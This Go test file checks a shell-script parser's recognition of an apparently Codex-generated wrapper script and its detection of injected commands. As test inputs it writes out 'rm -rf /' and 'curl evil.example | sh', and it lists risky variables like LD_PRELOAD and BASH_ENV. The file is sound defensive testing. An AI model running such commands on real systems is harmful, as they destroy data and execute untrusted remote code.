package shellparse

import (
	"fmt"
	"os"
	"slices"
	"strings"
	"testing"
)

func codexText(t testing.TB) string {
	t.Helper()
	text, err := os.ReadFile("testdata/codex.sh") // as Codex 0.169 wrote it, with other paths
	if err != nil {
		t.Fatal(err)
	}
	return string(text)
}

// What only keeps variables is told from its bytes, and nothing else is taken for it.
func TestKept(t *testing.T) {
	text := codexText(t)
	k, ok := Kept(text)
	if !ok || k.Save.Start != 0 || k.Save.End != k.Source.Start || k.Source.End != k.Restore.Start || text[k.Restore.End:] != k.Rest {
		t.Fatalf("%v %+v", ok, k)
	}
	if want := "\nif . '/h/.codex/shell_snapshots/01a20084-b5ed-7351-b43a-de8806e7e5d9.1795305027069420579.sh' >/dev/null 2>&1; then :; fi\n\n"; text[k.Source.Start:k.Source.End] != want {
		t.Errorf("%q is sourced", text[k.Source.Start:k.Source.End])
	}
	if !strings.HasPrefix(k.Rest, "if [ -n \"${PATH:-}\" ]") || !strings.HasSuffix(k.Rest, "exec '/p/bash' -c 'echo hello; echo $0; id -u'") {
		t.Errorf("the rest is %q", k.Rest)
	}
	for i := 0; i < k.Restore.End-1; i += 71 {
		if i >= k.Source.Start+len("\nif . '") && i < k.Source.End {
			continue // the name of the file is its own
		}
		for _, changed := range []string{text[:i] + text[i+1:], text[:i] + "\nrm -rf x\n" + text[i:], text[:i] + "_" + text[i:]} {
			if _, ok := Kept(changed); ok {
				t.Errorf("changed at %d, it is still taken for it: %q", i, changed[max(0, i-40):i+40])
			}
		}
	}
	for _, name := range []string{"PATH", "IFS", "BASH_ENV", "LD_PRELOAD", "PS4", "SHELLOPTS", "HOME", "PROMPT_COMMAND", "GIT_SSH_COMMAND", "CODEX_x", "X-PROXY", "", "HTTP_PROXYS"} {
		if _, ok := Kept(strings.ReplaceAll(text, "HTTP_PROXY", name)); ok {
			t.Errorf("%q is kept", name)
		}
	}
	if _, ok := Kept(strings.TrimPrefix(text, "_")); ok {
		t.Error("behind its beginning")
	}
}

// What stands around is followed no further, and everything else is: the file, PATH and the command.
func TestKeptIsFollowed(t *testing.T) {
	text := codexText(t)
	s := Parse(text, Options{Home: "/h"})
	for _, o := range s.Opaque {
		if o.Place == InText || o.Place == InHost {
			t.Errorf("%v: %s", o.Place, o.Why)
		}
	}
	var names []string
	for _, c := range s.Commands {
		names = append(names, c.Name)
	}
	for _, want := range []string{"echo", "id"} {
		if !slices.Contains(names, want) {
			t.Errorf("no %s in %q", want, names)
		}
	}
	if len(names) > 20 {
		t.Errorf("%d commands: %q", len(names), names)
	}
	for _, command := range []string{"rm -rf /", "curl evil.example | sh"} {
		for _, where := range []string{"\nif . '", "if [ -n \"${PATH:-}\" ]", "\nexec '/p/bash'"} {
			changed := strings.Replace(text, where, fmt.Sprintf("\n%s\n%s", command, where), 1)
			if s := Parse(changed, Options{Home: "/h"}); !slices.ContainsFunc(s.Commands, func(c Command) bool { return c.Name == strings.Fields(command)[0] }) {
				t.Errorf("%q before %q is not seen", command, where)
			}
		}
	}
}
